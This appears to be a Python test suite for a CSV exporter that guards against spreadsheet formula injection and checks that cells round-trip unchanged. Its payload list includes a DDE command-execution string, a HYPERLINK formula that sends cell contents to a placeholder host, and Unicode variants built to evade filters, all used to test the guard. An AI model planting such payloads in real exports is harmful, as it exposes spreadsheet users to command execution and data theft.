"""Tables that leave as CSV: nothing in them becomes a formula, and nothing is lost on the way back."""

import csv
import io
import unicodedata
from datetime import UTC, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from handrail.kit.exporting import Cell, csv_lines, guarded, read_csv, unguarded

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://canary.example/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    '"=1+1',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "−1",
]
#: A program with another separator than ours sees a cell begin behind each of these.
SPLIT = [
    f"Hello{mark}{blank}{formula}"
    for mark in ";,|\t\n"
    for blank in ("", '"', " ")
    for formula in ("=1", "＠a")
]
#: Strings that hold what matters often enough.
TEXTS = st.text(alphabet=st.sampled_from("='+-@＝\t\r\n ;,|\"a\u200b\ufeff0") | st.characters(codec="utf-8"))


def begins_a_formula(text: str) -> bool:
    """As the most careless program would see it."""
    seen = [sign for sign in text if not (sign in '"\t\r\n ' or unicodedata.category(sign) in ("Cf", "Zs"))]
    return bool(seen) and unicodedata.normalize("NFKC", seen[0])[:1] in tuple("=+-@−")


def written(*cells: str) -> str:
    return b"".join(csv_lines(["text"], [[cell] for cell in cells])).decode()


@pytest.mark.parametrize("text", FORMULAS)
def test_S_077_what_begins_like_a_formula_is_written_as_text(text):
    assert begins_a_formula(text)

    assert guarded(text) == f"'{text}" or not begins_a_formula(guarded(text))
    assert guarded(text).startswith("'")


@pytest.mark.parametrize("text", SPLIT)
def test_S_077_nor_does_a_formula_begin_behind_another_programs_separator(text):
    for mark in ";,|\t\n":
        assert not any(begins_a_formula(part) for part in guarded(text).split(mark)), mark


@given(TEXTS)
@example("'")
@example("'='")
@example(";'=")
@example(",\t'")
@example("\ufeff=1")
def test_S_077_our_reader_gives_back_what_went_in(text):
    assert unguarded(guarded(text)) == text


@given(st.lists(TEXTS, min_size=1))
def test_S_077_a_whole_file_comes_back(texts):
    assert list(read_csv(written(*texts)))[1:] == [[text] for text in texts]


@given(TEXTS)
def test_S_077_whatever_a_customer_writes_no_cell_begins_a_formula(text):
    (cell,) = list(csv.reader(io.StringIO(written(text).removeprefix("\ufeff"), newline="")))[1]

    assert not begins_a_formula(cell)
    assert cell[:1] not in tuple("\t\r\n")


def test_plain_words_numbers_and_times_stay_readable():
    rows: list[list[Cell]] = [["Lost parcel, please help", 1001, None, datetime(2026, 11, 22, 9, tzinfo=UTC)]]

    lines = b"".join(csv_lines(["Subject", "Number", "Owner", "Since"], rows)).decode()

    assert lines == (
        "\ufeff"
        '"Subject","Number","Owner","Since"\r\n'
        '"Lost parcel, please help","1001","","2026-11-22T09:00:00+00:00"\r\n'
    )
